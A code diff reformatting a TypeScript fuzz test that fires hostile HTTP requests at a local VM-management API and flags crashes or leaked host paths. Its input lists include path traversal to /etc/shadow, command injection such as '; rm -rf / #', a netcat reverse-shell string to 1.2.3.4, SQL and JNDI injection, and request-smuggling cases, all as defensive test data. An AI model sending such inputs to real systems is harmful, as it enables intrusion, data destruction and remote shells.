@@ -39,11 +39,52 @@ function rssKb(pid: number): number {
 }
 
 const STRINGS = [
-  '', ' ', 'undefined', 'null', '0', '-1', 'true', '../../../../etc/passwd', '..', '../', '/etc/shadow', '/proc/self/environ',
-  '..%2F..%2Fetc', 'a/../../b', '$(reboot)', '`id`', '; rm -rf / #', '| nc -e /bin/sh 1.2.3.4 4444', '&& touch /pwned', "'; DROP TABLE tasks; --",
-  '\n\r\tX-Injected: 1', '\u0000', 'a\u0000b', '\ud800', '\udfff', '😀'.repeat(50), '\u202e\u0645\u0631\u062d\u0628\u0627', 'Ω≈ç√∫', '%s%s%s%n',
-  '{{7*7}}', '${jndi:ldap://x/a}', '<script>alert(1)</script>', '1e309', 'NaN', 'Infinity', '0x7fffffffffffffff', '99999999999999999999999',
-  'dbc-test.qcow2', 'base2.qcow2', 'data_abcdef_0123456789abcdef.qcow2', 'x.qcow2/../../node.db', 'node.db', 'vms', '*', '?', '~root',
+  '',
+  ' ',
+  'undefined',
+  'null',
+  '0',
+  '-1',
+  'true',
+  '../../../../etc/passwd',
+  '..',
+  '../',
+  '/etc/shadow',
+  '/proc/self/environ',
+  '..%2F..%2Fetc',
+  'a/../../b',
+  '$(reboot)',
+  '`id`',
+  '; rm -rf / #',
+  '| nc -e /bin/sh 1.2.3.4 4444',
+  '&& touch /pwned',
+  "'; DROP TABLE tasks; --",
+  '\n\r\tX-Injected: 1',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  '\udfff',
+  '😀'.repeat(50),
+  '\u202e\u0645\u0631\u062d\u0628\u0627',
+  'Ω≈ç√∫',
+  '%s%s%s%n',
+  '{{7*7}}',
+  '${jndi:ldap://x/a}',
+  '<script>alert(1)</script>',
+  '1e309',
+  'NaN',
+  'Infinity',
+  '0x7fffffffffffffff',
+  '99999999999999999999999',
+  'dbc-test.qcow2',
+  'base2.qcow2',
+  'data_abcdef_0123456789abcdef.qcow2',
+  'x.qcow2/../../node.db',
+  'node.db',
+  'vms',
+  '*',
+  '?',
+  '~root',
 ];
 const NUMBERS = [0, -1, 1, 65535, 65536, 1e9, -1e9, 1e308, -1e308, 2 ** 53 + 1, 0.5, -0.0, 1e-320];
 
@@ -73,14 +114,48 @@ export function hostileValue(r: ReturnType<typeof prng>, depth = 0): unknown {
 }
 
 const ADDITIONAL_KEYS = [
-  'image_name', 'ssh_port', 'rdp_port', 'vnc_port', 'custom_port', 'gpu_count', 'cpu_cores', 'mem_size', 'disk_size', 'data_file_name',
-  'operation_system', 'bios_mode', 'network_name', 'public_ip', 'desc', 'new_ssh_port', 'new_vnc_port', 'new_gpu_count', 'new_cpu_cores',
-  'new_mem_size', 'password', 'image_server', 'image_filename', 'local_dir', 'mount_dir', 'size', 'disk_name', 'snapshot_name',
-  'task_id', 'ip_cidr', 'network_name', 'multicast', 'force_reboot', 'interface_type', 'vnc_password',
+  'image_name',
+  'ssh_port',
+  'rdp_port',
+  'vnc_port',
+  'custom_port',
+  'gpu_count',
+  'cpu_cores',
+  'mem_size',
+  'disk_size',
+  'data_file_name',
+  'operation_system',
+  'bios_mode',
+  'network_name',
+  'public_ip',
+  'desc',
+  'new_ssh_port',
+  'new_vnc_port',
+  'new_gpu_count',
+  'new_cpu_cores',
+  'new_mem_size',
+  'password',
+  'image_server',
+  'image_filename',
+  'local_dir',
+  'mount_dir',
+  'size',
+  'disk_name',
+  'snapshot_name',
+  'task_id',
+  'ip_cidr',
+  'network_name',
+  'multicast',
+  'force_reboot',
+  'interface_type',
+  'vnc_password',
 ];
 
 /** percent-encode the UTF-8 bytes (lone surrogates included, as U+FFFD) */
-const enc = (x: string) => [...Buffer.from(x, 'utf8')].map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`)).join('');
+const enc = (x: string) =>
+  [...Buffer.from(x, 'utf8')]
+    .map((b) => (/[A-Za-z0-9._~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`))
+    .join('');
 
 function deepNest(n: number, open: string, close: string, inner = '1'): string {
   return open.repeat(n) + inner + close.repeat(n);
@@ -98,8 +173,25 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
   const specs = Object.values(ROUTES);
   const seg = () =>
     r.pick([
-      '0123456789abcdefghij', 'x'.repeat(r.pick([1, 21, 300, 4000])), '..', '..%2F..%2Fetc', '%2e%2e', 'a%00b', '%ff%fe', '%F0%9F%98%80',
-      '%24(reboot)', '%60id%60', ';ls', 'a|b', '%0d%0aX:1', '%', '%zz', '*', '-', '_', enc(r.pick(STRINGS)),
+      '0123456789abcdefghij',
+      'x'.repeat(r.pick([1, 21, 300, 4000])),
+      '..',
+      '..%2F..%2Fetc',
+      '%2e%2e',
+      'a%00b',
+      '%ff%fe',
+      '%F0%9F%98%80',
+      '%24(reboot)',
+      '%60id%60',
+      ';ls',
+      'a|b',
+      '%0d%0aX:1',
+      '%',
+      '%zz',
+      '*',
+      '-',
+      '_',
+      enc(r.pick(STRINGS)),
     ]);
   let path: string;
   const u = r.int(20);
@@ -107,20 +199,57 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
     path = r.pick(specs).path.replace(/\{[a-z_]+\}/g, () => (r.chance(0.2) ? '' : seg()));
     if (r.chance(0.15)) path += '/' + seg();
   } else if (u < 17) {
-    path = r.pick(['/api/v1', '/api/v1/', '/api/v1/openapi.json', '/api/v1/peers/active', '/api/v1/peers/global', '/api/v1/images/servers', '/api/v1/stat', '/api/v1/config']);
+    path = r.pick([
+      '/api/v1',
+      '/api/v1/',
+      '/api/v1/openapi.json',
+      '/api/v1/peers/active',
+      '/api/v1/peers/global',
+      '/api/v1/images/servers',
+      '/api/v1/stat',
+      '/api/v1/config',
+    ]);
   } else {
     path = r.pick([
-      '/', '', '*', '/api', '/api/v2/tasks', '//api/v1/tasks', '/api/v1//tasks', '/API/V1/TASKS', '/api/v1/tasksfoo', '/api/v1/tasks/a/b/c/d',
-      '/api/v1/../../etc/passwd', '/api/v1/tasks/%', '/api/v1/tasks/%00', '/api/v1/' + 'a/'.repeat(2000), '/api/v1/tasks/' + '%41'.repeat(3000),
-      '/api/v1/lan/%2F', '/api/v1/operations/' + seg(), '/api/v1/snapshot/delete/' + seg() + '/' + seg(), '/api/v1/images/' + seg(),
-      'http://evil.example/api/v1/tasks', '/api/v1/tasks#frag', '/api/v1/tasks;jsessionid=1',
+      '/',
+      '',
+      '*',
+      '/api',
+      '/api/v2/tasks',
+      '//api/v1/tasks',
+      '/api/v1//tasks',
+      '/API/V1/TASKS',
+      '/api/v1/tasksfoo',
+      '/api/v1/tasks/a/b/c/d',
+      '/api/v1/../../etc/passwd',
+      '/api/v1/tasks/%',
+      '/api/v1/tasks/%00',
+      '/api/v1/' + 'a/'.repeat(2000),
+      '/api/v1/tasks/' + '%41'.repeat(3000),
+      '/api/v1/lan/%2F',
+      '/api/v1/operations/' + seg(),
+      '/api/v1/snapshot/delete/' + seg() + '/' + seg(),
+      '/api/v1/images/' + seg(),
+      'http://evil.example/api/v1/tasks',
+      '/api/v1/tasks#frag',
+      '/api/v1/tasks;jsessionid=1',
     ]);
-    if (path === '' ) path = '/';
+    if (path === '') path = '/';
   }
   if (r.chance(0.2)) {
     path += r.pick([
-      '?flag=head&line_num=5', '?flag=tail&line_num=-1', '?flag=middle', '?line_num=99999999999999', '?flag=&line_num=', '?force_reboot=' + enc(r.pick(STRINGS)),
-      '?a=1&a=2&a=3', '?%zz=%zz', '?' + 'q=1&'.repeat(500), '?=&=&', '?flag=head&line_num=1e3', '?__proto__[x]=1',
+      '?flag=head&line_num=5',
+      '?flag=tail&line_num=-1',
+      '?flag=middle',
+      '?line_num=99999999999999',
+      '?flag=&line_num=',
+      '?force_reboot=' + enc(r.pick(STRINGS)),
+      '?a=1&a=2&a=3',
+      '?%zz=%zz',
+      '?' + 'q=1&'.repeat(500),
+      '?=&=&',
+      '?flag=head&line_num=1e3',
+      '?__proto__[x]=1',
     ]);
   }
   if (!path.startsWith('/') && !path.startsWith('http') && path !== '*') path = '/' + path;
@@ -131,9 +260,27 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
   // --- the body
   const peers = (): unknown =>
     r.pick<unknown>([
-      [ctx.nodeId], [ctx.nodeId], [ctx.nodeId.toUpperCase()], [], [''], [null], [1], [{}], [[ctx.nodeId]], ['x'.repeat(64)], ['0'.repeat(64)],
-      [ctx.nodeId, 'junk'], ['../..'], [` ${ctx.nodeId}`], ctx.nodeId, 42, {}, null, Array.from({ length: 10_000 }, () => ctx.nodeId),
-      ['ab'.repeat(32)], [r.pick(STRINGS)],
+      [ctx.nodeId],
+      [ctx.nodeId],
+      [ctx.nodeId.toUpperCase()],
+      [],
+      [''],
+      [null],
+      [1],
+      [{}],
+      [[ctx.nodeId]],
+      ['x'.repeat(64)],
+      ['0'.repeat(64)],
+      [ctx.nodeId, 'junk'],
+      ['../..'],
+      [` ${ctx.nodeId}`],
+      ctx.nodeId,
+      42,
+      {},
+      null,
+      Array.from({ length: 10_000 }, () => ctx.nodeId),
+      ['ab'.repeat(32)],
+      [r.pick(STRINGS)],
     ]);
   const additional = (): unknown => {
     if (r.chance(0.1)) return hostileValue(r);
@@ -154,7 +301,8 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
       case 4:
         return {
           multisig_accounts: {
-            wallets: [ctx.wallet, hostileValue(r)], threshold: r.pick(['0', '1', '2', '-1', '999', 'x']),
+            wallets: [ctx.wallet, hostileValue(r)],
+            threshold: r.pick(['0', '1', '2', '-1', '999', 'x']),
             signs: [{ wallet: ctx.wallet, nonce: 'n', sign: '0x00' }, hostileValue(r)],
           },
         };
@@ -177,14 +325,31 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
     if (r.chance(0.05)) body = body.slice(0, r.int(body.length)); // truncated
   } else if (b < 15) {
     body = r.pick([
-      '', ' ', '{', '}', '[]', 'null', 'true', '"str"', '1e999', '-', '{"peer_nodes_list":', '{"a":1,}', "{'a':1}", '\ufeff{}', 'NaN',
-      '{"peer_nodes_list":[],"additional":{}}{"x":1}', '{"__proto__":{"isAdmin":true},"peer_nodes_list":[]}', '\u0000\u0001\u0002',
+      '',
+      ' ',
+      '{',
+      '}',
+      '[]',
+      'null',
+      'true',
+      '"str"',
+      '1e999',
+      '-',
+      '{"peer_nodes_list":',
+      '{"a":1,}',
+      "{'a':1}",
+      '\ufeff{}',
+      'NaN',
+      '{"peer_nodes_list":[],"additional":{}}{"x":1}',
+      '{"__proto__":{"isAdmin":true},"peer_nodes_list":[]}',
+      '\u0000\u0001\u0002',
       Buffer.from(Array.from({ length: 64 }, () => r.int(256))).toString('latin1'),
     ]);
   } else if (b < 17) {
     const n = r.pick([100, 10_000, 100_000]);
     body = r.pick([
-      deepNest(n, '[', ']'), deepNest(n, '{"a":', '}'),
+      deepNest(n, '[', ']'),
+      deepNest(n, '{"a":', '}'),
       `{"peer_nodes_list":["${ctx.nodeId}"],"additional":${deepNest(n, '{"x":', '}')},"wallet":"${ctx.wallet}","nonce":"n","sign":"0x00"}`,
       `{"peer_nodes_list":["${ctx.nodeId}"],"additional":${deepNest(n, '[', ']')}}`,
     ]);
@@ -197,7 +362,18 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
   } else {
     // a valid signature on a read-only route, with hostile path segments and additional
     body = JSON.stringify({ peer_nodes_list: [ctx.nodeId], additional: additional(), ...signNonce(ctx.seed) });
-    path = r.pick(['/api/v1/tasks', `/api/v1/tasks/${seg()}`, `/api/v1/tasks/logs/${seg()}?flag=head&line_num=5`, `/api/v1/disk/list/${seg()}`, `/api/v1/snapshot/list/${seg()}`, `/api/v1/operations/${seg()}`, '/api/v1/operations', `/api/v1/lan/${seg()}`, '/api/v1/images/downloadprogress', '/api/v1/mining_nodes']);
+    path = r.pick([
+      '/api/v1/tasks',
+      `/api/v1/tasks/${seg()}`,
+      `/api/v1/tasks/logs/${seg()}?flag=head&line_num=5`,
+      `/api/v1/disk/list/${seg()}`,
+      `/api/v1/snapshot/list/${seg()}`,
+      `/api/v1/operations/${seg()}`,
+      '/api/v1/operations',
+      `/api/v1/lan/${seg()}`,
+      '/api/v1/images/downloadprogress',
+      '/api/v1/mining_nodes',
+    ]);
   }
 
   // --- the Content-Type
@@ -206,8 +382,20 @@ function makeCase(r: ReturnType<typeof prng>, ctx: { nodeId: string; wallet: str
   if (ct < 6) headers['content-type'] = 'application/json';
   else if (ct < 14) {
     headers['content-type'] = r.pick([
-      'json', 'text', 'application/json, text/plain', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=--x',
-      '', ';', 'application/json; charset=utf-16', 'application/json; charset="', '*/*', 'a'.repeat(5000), 'application/xml', 'image/png',
+      'json',
+      'text',
+      'application/json, text/plain',
+      'text/plain',
+      'application/x-www-form-urlencoded',
+      'multipart/form-data; boundary=--x',
+      '',
+      ';',
+      'application/json; charset=utf-16',
+      'application/json; charset="',
+      '*/*',
+      'a'.repeat(5000),
+      'application/xml',
+      'image/png',
     ]);
   }
   return { method, path, headers, body };
@@ -234,11 +422,21 @@ describe('fuzz: hostile requests against dbc up', { timeout: 600_000 }, () => {
     const r = prng(SEED);
     const ctx = { nodeId: d.node_id, wallet: d.renter.wallet, seed: d.renter.seed };
     const hostNeedles = [d.dataDir, '/root', '/tmp/', '/proc/', '/home/', '/work/', '/var/lib'];
-    const problems = { internal: [] as string[], notEnvelope: [] as string[], status: [] as string[], stack: [] as string[], hostPath: [] as string[], transport: [] as string[] };
+    const problems = {
+      internal: [] as string[],
+      notEnvelope: [] as string[],
+      status: [] as string[],
+      stack: [] as string[],
+      hostPath: [] as string[],
+      transport: [] as string[],
+    };
     const statuses = new Map<number, number>();
     const errors500 = new Map<string, number>();
     const note = (list: string[], c: Case, what: string) => {
-      if (list.length < 20) list.push(`${c.method} ${c.path.slice(0, 120)} ct=${JSON.stringify(c.headers['content-type'] ?? null)?.slice(0, 40)} body=${(c.body ?? '').slice(0, 120)} -> ${what.slice(0, 400)}`);
+      if (list.length < 20)
+        list.push(
+          `${c.method} ${c.path.slice(0, 120)} ct=${JSON.stringify(c.headers['content-type'] ?? null)?.slice(0, 40)} body=${(c.body ?? '').slice(0, 120)} -> ${what.slice(0, 400)}`,
+        );
     };
 
     const check = (c: Case, status: number, text: string) => {
@@ -270,13 +468,21 @@ describe('fuzz: hostile requests against dbc up', { timeout: 600_000 }, () => {
       if (!ok) note(problems.status, c, `${status} ${text}`);
       // a 5xx is the original's `Unhandled request` (/stat, /config, unknown /tasks verbs) or a timeout; anything
       // else is a failure of ours (e.g. `<op> failed: Maximum call stack size exceeded` for deep nesting)
-      if (status >= 500 && !(typeof v.message === 'string' && (v.message === 'Unhandled request' || v.message.endsWith(' timeout')))) note(problems.internal, c, `${status} ${text}`);
+      if (status >= 500 && !(typeof v.message === 'string' && (v.message === 'Unhandled request' || v.message.endsWith(' timeout'))))
+        note(problems.internal, c, `${status} ${text}`);
     };
 
     const send = (c: Case) =>
       new Promise<void>((resolve) => {
         const req = http.request(
-          { host: url.hostname, port: url.port, method: c.method, path: c.path, agent, headers: { ...c.headers, ...(c.body !== undefined ? { 'content-length': String(Buffer.byteLength(c.body)) } : {}) } },
+          {
+            host: url.hostname,
+            port: url.port,
+            method: c.method,
+            path: c.path,
+            agent,
+            headers: { ...c.headers, ...(c.body !== undefined ? { 'content-length': String(Buffer.byteLength(c.body)) } : {}) },
+          },
           (res) => {
             const chunks: Buffer[] = [];
             res.on('data', (x: Buffer) => chunks.push(x));
@@ -293,7 +499,8 @@ describe('fuzz: hostile requests against dbc up', { timeout: 600_000 }, () => {
         req.setTimeout(60_000, () => req.destroy(new Error('no reply in 60 s')));
         req.on('error', (e: NodeJS.ErrnoException) => {
           // the client library refusing to send (an unescaped path, a bad header) is not the server's fault
-          if (e.code !== 'ERR_UNESCAPED_CHARACTERS' && e.code !== 'ERR_INVALID_CHAR' && e.code !== 'ERR_INVALID_HTTP_TOKEN') note(problems.transport, c, String(e));
+          if (e.code !== 'ERR_UNESCAPED_CHARACTERS' && e.code !== 'ERR_INVALID_CHAR' && e.code !== 'ERR_INVALID_HTTP_TOKEN')
+            note(problems.transport, c, String(e));
           resolve();
         });
         if (c.body !== undefined) req.end(c.body);
@@ -325,14 +532,22 @@ describe('fuzz: hostile requests against dbc up', { timeout: 600_000 }, () => {
     );
     // malformed HTTP on raw sockets: each answered with an envelope or closed, never left hanging
     const rawCases = [
-      'GARBAGE\r\n\r\n', 'POST /api/v1/tasks HTTP/1.1\r\nHost x\r\n\r\n', 'POST /api/v1/tasks HTTP/9.9\r\nHost: x\r\n\r\n',
+      'GARBAGE\r\n\r\n',
+      'POST /api/v1/tasks HTTP/1.1\r\nHost x\r\n\r\n',
+      'POST /api/v1/tasks HTTP/9.9\r\nHost: x\r\n\r\n',
       `POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(70_000)}\r\n\r\n`,
       'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
       'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n',
-      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n', 'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
-      'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n', 'POST /api/v1/t\u00e4sks HTTP/1.1\r\nHost: x\r\n\r\n', 'POST /api/v1/tasks\u0000 HTTP/1.1\r\nHost: x\r\n\r\n',
-      'POST /api/v1/tasks HTTP/1.0\r\nContent-Type: json\r\nContent-Length: 2\r\n\r\n{}', 'GET http://x/api/v1 HTTP/1.1\r\nHost: x\r\n\r\n',
-      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: \u00ff\u00fe\r\nContent-Length: 2\r\n\r\n{}', '\r\n\r\n\r\n', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
+      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
+      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
+      'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n',
+      'POST /api/v1/t\u00e4sks HTTP/1.1\r\nHost: x\r\n\r\n',
+      'POST /api/v1/tasks\u0000 HTTP/1.1\r\nHost: x\r\n\r\n',
+      'POST /api/v1/tasks HTTP/1.0\r\nContent-Type: json\r\nContent-Length: 2\r\n\r\n{}',
+      'GET http://x/api/v1 HTTP/1.1\r\nHost: x\r\n\r\n',
+      'POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: \u00ff\u00fe\r\nContent-Length: 2\r\n\r\n{}',
+      '\r\n\r\n\r\n',
+      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
     ];
     const rawSend = (payload: string) =>
       new Promise<void>((resolve) => {
